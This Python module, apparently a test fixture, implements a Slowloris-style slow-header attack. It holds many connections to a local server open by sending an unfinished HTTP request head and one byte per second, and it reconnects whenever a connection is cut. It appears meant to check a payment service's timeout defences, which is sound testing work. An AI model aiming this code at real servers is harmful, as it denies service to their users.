"""Connections that begin a head and never end it: a byte each second, and anew when cut off."""

import contextlib
import socket
import threading
import time

_HEAD = b"GET /bytes/1024 HTTP/1.1\r\nHost: tron-payment\r\nX-Slow: "
_TURN = 1.0  # seconds between two bytes of a connection


class Attackers:
    """At work between `with` and its end."""

    def __init__(self, port: int, count: int):
        self._address = ("127.0.0.1", port)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._drip, daemon=True)
        self._streams = [self._open() for _ in range(count)]
        self.cut_off = 0

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join()
        for stream in self._streams:
            stream.close()

    def _open(self) -> socket.socket:
        stream = socket.create_connection(self._address, 10)
        stream.sendall(_HEAD)
        stream.setblocking(False)
        return stream

    def _drip(self) -> None:
        pause = _TURN / len(self._streams)
        due = time.monotonic()
        while not self._stop.is_set():
            for at, stream in enumerate(self._streams):
                if self._stop.is_set():
                    return
                if not _push(stream):
                    self.cut_off += 1
                    stream.close()
                    with contextlib.suppress(OSError):
                        self._streams[at] = self._open()
                due += pause
                if (early := due - time.monotonic()) > 0.01:
                    time.sleep(early)


def _push(stream: socket.socket) -> bool:
    """False when the other side has ended it."""
    try:
        stream.send(b"a")
        stream.recv(4096)  # whatever it says, an answer or the end: it is over
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False
